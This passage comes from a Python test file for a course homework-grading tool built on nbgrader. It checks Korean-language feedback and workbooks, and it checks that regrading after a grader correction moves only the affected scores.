    trusted = homework.autograde(course_ko, HW1, cell_timeout=15, probe_timeout=60, jobs=2)
    assert trusted == {s: EXPECTED_HW1[s] for s in ("blank", "wrong")}
    homework.feedback(course_ko, HW1)
    html = (course_ko / "feedback" / "wrong" / HW1 / f"{HW1}.html").read_text(encoding="utf-8")
    assert "[채점] 2 / 3점" in html
    assert "실패: 모든 층의 각 gamma와 beta는 자기 태스크의 행에만 작용해야 합니다" in html
    assert "파트 2 · FiLM으로 컨디셔닝한 모델" in html  # the locked text, as released
    assert "[graded]" not in html and "failed:" not in html


def test_the_korean_student_workbook(tmp_path):
    out = tmp_path / "student-ko"
    homework.build_workbook(out, source=ROOT / "notebooks", language="ko")
    labs = sorted(out.glob("0*.ipynb"))
    assert (
        len(labs) == 6
        and json.loads((out / ".mtml-release.json").read_text(encoding="utf-8"))["edition"] == "ko"
    )
    for lab in labs:
        notebook = nbformat.read(lab, as_version=4)
        prose = [c.source for c in notebook.cells if c.cell_type == "markdown"]
        assert sum(bool(HANGUL.search(p)) for p in prose) >= 0.9 * len(prose)
        assert 'LANGUAGE = "ko"' in notebook.cells[1].source
        code = "\n".join(c.source for c in notebook.cells if c.cell_type == "code")
        # an exercise's stub says where the student's code goes in Korean
        assert "# 여기에 코드를 쓰세요" in code
        assert "YOUR CODE HERE" not in code
    release = out / "homework" / HW2 / f"{HW2}.ipynb"
    assert "블랙박스 메타 학습" in release.read_text(encoding="utf-8")
    assert "# 여기에 코드를 쓰세요" in release.read_text(encoding="utf-8")


# --- a re-grade after a grader is corrected (last: it changes the course's grader, then puts it
# back) ------------------------------------------------------------------------------------------


def test_a_regrade_moves_only_what_the_correction_changes(course, hw1_scores, capsys):
    from nbgrader.api import Gradebook

    grader = course / "graders" / f"{HW1}.py"
    original = grader.read_text(encoding="utf-8")
    database = f"sqlite:///{course / 'gradebook.db'}"
    with Gradebook(database) as gradebook:  # a written answer graded by hand, with a comment
        gradebook.find_grade("analysis", HW1, HW1, "wrong").manual_score = 4
        gradebook.find_comment("analysis", HW1, HW1, "wrong").manual_comment = "clear"
        gradebook.db.commit()
    students = ["solution", "blank", "wrong"]
    # the correction: FiLM's routing check (half a point) was too strict: it now passes everyone
    grader.write_text(
        original.replace(
            "def film_routes(got, ref):\n", "def film_routes(got, ref):\n    return True\n"
        ),
        encoding="utf-8",
    )
    try:
        capsys.readouterr()
        homework.autograde(
            course, HW1, cell_timeout=15, probe_timeout=60, students=students, regrade=True
        )
        printed = capsys.readouterr().out
        assert "re-graded test_film of 3 submission(s)" in printed
        assert "1 grade(s) moved:\n  wrong, test_film: 2 -> 2.5" in printed
        with Gradebook(database) as gradebook:
            assert gradebook.find_grade("test_film", HW1, HW1, "wrong").manual_score == 2.5
            assert gradebook.find_grade("test_mmoe", HW1, HW1, "wrong").manual_score == 2
            assert gradebook.find_grade("analysis", HW1, HW1, "wrong").manual_score == 4
            assert gradebook.find_comment("analysis", HW1, HW1, "wrong").manual_comment == "clear"
        graded = nbformat.read(course / "autograded" / "wrong" / HW1 / f"{HW1}.ipynb", 4)
        film = next(c for c in graded.cells if cell_key(c) == "test_film")
        assert sum("[graded]" in o.get("text", "") for o in film.outputs) == 1  # the new one
        assert "[graded] 2.5 of 3 points" in film.outputs[-1]["text"]
        # graded with this grader now: a second re-grade has nothing to do
        homework.autograde(course, HW1, students=students, regrade=True)
        assert "nothing to re-grade" in capsys.readouterr().out
    finally:
        grader.write_text(original, encoding="utf-8")
